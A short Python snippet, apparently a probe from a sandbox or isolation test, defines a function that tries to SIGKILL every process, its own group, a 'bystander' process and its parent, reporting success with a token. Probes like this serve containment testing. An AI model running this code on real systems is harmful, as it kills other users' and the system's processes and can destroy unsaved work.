"""Kill every process that may be killed."""
import os
import signal


def attack(x):
    for number in (-1, 0, -os.getpgid(0), -SCENE["bystander_pid"], os.getppid()):
        for send in (os.kill, os.killpg):
            try:
                send(number, signal.SIGKILL)
                return "THROUGH-KILL"
            except (OSError, OverflowError):
                pass
